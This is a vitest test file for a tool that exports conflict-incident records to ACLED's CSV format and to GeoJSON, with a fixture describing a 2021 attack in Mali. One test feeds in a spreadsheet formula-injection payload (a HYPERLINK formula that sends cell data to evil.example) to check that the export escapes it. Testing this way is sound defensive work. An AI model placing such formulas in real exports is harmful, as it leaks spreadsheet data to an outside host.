import Papa from 'papaparse';
import { resolveIncident, setRule } from '../../../src/core/incidents/resolve';
import { describe, expect, it } from 'vitest';
import { ACLED_COLUMNS, acledExport, incidentsGeoJson } from '../../../src/core/export/acled';
import { claim, incident, source } from '../factories';
import type { Incident } from '../../../src/core/model/types';

const setDisputed = (i: Incident): Incident => ({ ...i, disputed: true });

// The columns of ACLED's current export, as the incidents issue quotes them.
const ACLED_HEADER =
  'event_id_cnty, event_date, year, time_precision, disorder_type, event_type, sub_event_type, actor1, assoc_actor_1, inter1, actor2, assoc_actor_2, inter2, interaction, civilian_targeting, iso, region, country, admin1, admin2, admin3, location, latitude, longitude, geo_precision, source, source_scale, notes, fatalities, tags, timestamp';

const parse = (text: string) =>
  Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });

const bus = source({ id: 'src-aj', title: 'Mali: 31 killed in attack on bus', publisher: 'Al Jazeera' });
const rfi = source({ id: 'src-rfi', title: 'Au moins 31 morts', publisher: 'RFI' });
const attack = incident({
  id: '7f3a9c10-1111-4222-8333-944455556666',
  date: '2021-12-03',
  datePrecision: 'day',
  location: { name: 'Songho', admin1: 'Mopti', country: 'Mali', latitude: 14.2, longitude: -3.6 },
  eventType: 'Violence against civilians',
  subEventType: 'Attack',
  perpetrator: 'JNIM',
  target: 'Civilians (Mali)',
  fatalities: { low: 31, best: 32, high: 35 },
  injured: 17,
  description: 'Gunmen fired on a bus taking traders to Bandiagara market.',
  tags: ['bus', 'market day'],
  sourceIds: ['src-aj', 'src-rfi'],
  updatedAt: Date.UTC(2021, 11, 9, 12),
});

describe('ACLED export', () => {
  it('has the 31 columns of ACLED, in its order and spelling', () => {
    expect(ACLED_COLUMNS.join(', ')).toBe(ACLED_HEADER);
    const { events } = acledExport([attack], [bus, rfi]);
    // After the byte-order mark (see below).
    expect(events.slice(1).split('\r\n')[0]).toBe(ACLED_HEADER.replaceAll(', ', ','));
  });

  it('writes an incident as ACLED would code it, the most conservative figure counted', () => {
    const [row] = parse(acledExport([attack], [bus, rfi]).events).data;
    expect(row?.event_id_cnty).toMatch(/^MLI\d+$/);
    expect(row).toMatchObject({
      event_date: '2021-12-03',
      year: '2021',
      time_precision: '1',
      disorder_type: 'Political violence',
      event_type: 'Violence against civilians',
      sub_event_type: 'Attack',
      actor1: 'JNIM',
      actor2: 'Civilians (Mali)',
      civilian_targeting: 'Civilian targeting',
      iso: '466',
      region: 'Western Africa',
      country: 'Mali',
      admin1: 'Mopti',
      location: 'Songho',
      latitude: '14.2',
      longitude: '-3.6',
      geo_precision: '1',
      source: 'Al Jazeera; RFI',
      notes: 'Gunmen fired on a bus taking traders to Bandiagara market.',
      fatalities: '31',
      tags: 'bus; market day',
      timestamp: String(Date.UTC(2021, 11, 9, 12) / 1000),
    });
  });

  it('keeps what ACLED has no column for in a sidecar, keyed by the same event id', () => {
    const { events, sidecar } = acledExport([attack], [bus, rfi]);
    const [side] = parse(sidecar).data;
    expect(side).toEqual({
      event_id_cnty: parse(events).data[0]!.event_id_cnty,
      fieldbook_id: attack.id,
      fatalities_low: '31',
      fatalities_best: '32',
      fatalities_high: '35',
      injured: '17',
      source_ids: 'src-aj; src-rfi',
      source_titles: 'Mali: 31 killed in attack on bus; Au moins 31 morts',
      disputed: '',
      fatalities_rule: '',
      provenance: '',
      claims: '',
    });
  });

  it('exports the figure the chosen rule resolved, and says in the sidecar which report gave each field', () => {
    const aj = claim({
      sourceId: 'src-aj',
      date: '2021-12-03',
      fatalities: { low: 31, best: 31 },
      quotes: { fatalities: 'at least 31' },
    });
    const rf = claim({
      sourceId: 'src-rfi',
      date: '2021-12-03',
      fatalities: { low: 30, best: 30 },
      quotes: { fatalities: 'plus de 30' },
    });
    const reported = resolveIncident(
      incident({ ...attack, claims: [aj, rf, claim({ sourceId: 'src-rfi', fatalities: { best: 40 } })] }),
    );
    const best = parse(acledExport([reported], [bus, rfi]).events).data[0]!;
    expect(best.fatalities).toBe('31');
    const conservative = setRule(setDisputed(reported), 'fatalities', 'conservative');
    const { events, sidecar } = acledExport([conservative], [bus, rfi]);
    expect(parse(events).data[0]!.fatalities).toBe('30');
    const [side] = parse(sidecar).data;
    expect(side?.provenance).toContain('fatalities: Au moins 31 morts “plus de 30”');
    expect(side).toMatchObject({
      fatalities_low: '30',
      fatalities_best: '30',
      fatalities_high: '40',
      disputed: 'yes',
      fatalities_rule: 'conservative',
      claims:
        'Mali: 31 killed in attack on bus, 2021-12-03, , ≥ 31,  | Au moins 31 morts, 2021-12-03, , ≥ 30,  | Au moins 31 morts, , , ~ 40, ',
    });
  });

  it('begins both files with a byte-order mark, so that Excel reads Ségou in UTF-8 as ACLED’s own files are', () => {
    const segou = incident({ ...attack, location: { ...attack.location, admin1: 'Ségou', name: 'Sokolo' } });
    const { events, sidecar } = acledExport([segou], [bus, rfi]);
    for (const file of [events, sidecar]) {
      expect(file.charCodeAt(0)).toBe(0xfeff);
      expect(file.slice(1, 14)).toBe('event_id_cnty');
    }
    // Read back as a spreadsheet would, the name is whole.
    const bytes = new TextEncoder().encode(events);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(parse(new TextDecoder().decode(bytes)).data[0]!.admin1).toBe('Ségou');
  });

  it('codes every country, named in English or French: its id, ISO numeric code and ACLED region', () => {
    const elsewhere = (country: string, id: string) =>
      incident({ ...attack, id, location: { name: 'Somewhere', admin1: '', country } });
    const rows = parse(
      acledExport(
        [
          elsewhere('Sudan', 'e1000000-0000-4000-8000-000000000001'),
          elsewhere('Soudan du Sud', 'e2000000-0000-4000-8000-000000000002'),
          elsewhere('Tchad', 'e3000000-0000-4000-8000-000000000003'),
          elsewhere('Côte d’Ivoire', 'e4000000-0000-4000-8000-000000000004'),
          elsewhere('Syrie', 'e5000000-0000-4000-8000-000000000005'),
          elsewhere('Mexico', 'e6000000-0000-4000-8000-000000000006'),
          elsewhere('Georgia', 'e7000000-0000-4000-8000-000000000007'),
          elsewhere('the Gambia', 'e8000000-0000-4000-8000-000000000008'),
          elsewhere('Atlantis', 'e9000000-0000-4000-8000-000000000009'),
        ],
        [],
      ).events,
    ).data;
    expect(rows.map((r) => [r.country, r.event_id_cnty!.slice(0, 3), r.iso, r.region])).toEqual([
      ['Sudan', 'SDN', '729', 'Northern Africa'],
      ['Soudan du Sud', 'SSD', '728', 'Eastern Africa'],
      ['Tchad', 'TCD', '148', 'Middle Africa'],
      ['Côte d’Ivoire', 'CIV', '384', 'Western Africa'],
      ['Syrie', 'SYR', '760', 'Middle East'],
      ['Mexico', 'MEX', '484', 'Central America'],
      ['Georgia', 'GEO', '268', 'Caucasus and Central Asia'],
      ['the Gambia', 'GMB', '270', 'Western Africa'],
      // A name no country goes by keeps ACLED's placeholder, and says nothing it does not know.
      ['Atlantis', 'XXX', '', ''],
    ]);
  });

  it('escapes cells a spreadsheet would run as formulas, and quotes commas and quotes', () => {
    const hostile = incident({
      ...attack,
      id: 'b0000000-0000-4000-8000-000000000001',
      description: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      perpetrator: 'Katiba Macina, "Front de libération du Macina"',
    });
    const [row] = parse(acledExport([hostile], []).events).data;
    expect(row!.notes).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(row!.actor1).toBe('Katiba Macina, "Front de libération du Macina"');
  });

  it('places incidents with coordinates on a GeoJSON map and counts the others', () => {
    const unplaced = incident({
      ...attack,
      id: 'c0000000-0000-4000-8000-000000000002',
      location: { name: 'near Boni', admin1: 'Mopti', country: 'Mali' },
    });
    const { geojson, unplaced: count } = incidentsGeoJson([attack, unplaced], [bus, rfi]);
    const parsed = JSON.parse(geojson) as {
      features: { geometry: { coordinates: number[] }; properties: Record<string, unknown> }[];
    };
    expect(count).toBe(1);
    expect(parsed.features).toHaveLength(1);
    expect(parsed.features[0]!.geometry.coordinates).toEqual([-3.6, 14.2]);
    expect(parsed.features[0]!.properties).toMatchObject({
      fatalities: 31,
      fatalities_high: 35,
      location: 'Songho',
    });
  });

  it('writes a missing value as null, never as "", so that each property keeps one type for GDAL and QGIS', () => {
    // Outside the country table, with no injured count and no high figure.
    const abroad = incident({
      ...attack,
      id: 'd0000000-0000-4000-8000-000000000003',
      location: {
        name: 'Nyala',
        admin1: 'South Darfur',
        country: 'Atlantis',
        latitude: 12.05,
        longitude: 24.88,
      },
      fatalities: { best: 12 },
      injured: undefined,
    });
    const parsed = JSON.parse(incidentsGeoJson([attack, abroad], [bus, rfi]).geojson) as {
      type: string;
      crs?: unknown;
      features: {
        type: string;
        id: unknown;
        geometry: { type: string; coordinates: number[] };
        properties: Record<string, unknown>;
      }[];
    };
    // RFC 7946: a FeatureCollection of Features, longitude first, no `crs` member (WGS 84 only).
    expect(parsed.type).toBe('FeatureCollection');
    expect(parsed).not.toHaveProperty('crs');
    expect(parsed.features.map((f) => [f.type, f.geometry.type])).toEqual([
      ['Feature', 'Point'],
      ['Feature', 'Point'],
    ]);
    expect(parsed.features[1]!.geometry.coordinates).toEqual([24.88, 12.05]);
    const [inMali, elsewhere] = parsed.features.map((f) => f.properties);
    expect(inMali!.iso).toBe(466);
    expect(elsewhere!.iso).toBeNull();
    expect(elsewhere!.region).toBeNull();
    expect(elsewhere!.injured).toBeNull();
    expect(elsewhere!.fatalities_high).toBeNull();
    for (const properties of [inMali!, elsewhere!])
      expect(Object.entries(properties).filter(([, v]) => v === '')).toEqual([]);
    // Every property has one JSON type across the features (null aside).
    for (const key of Object.keys(inMali!)) {
      const types = new Set(
        parsed.features
          .map((f) => f.properties[key])
          .filter((v) => v !== null)
          .map((v) => typeof v),
      );
      expect([key, types.size <= 1]).toEqual([key, true]);
    }
  });
});
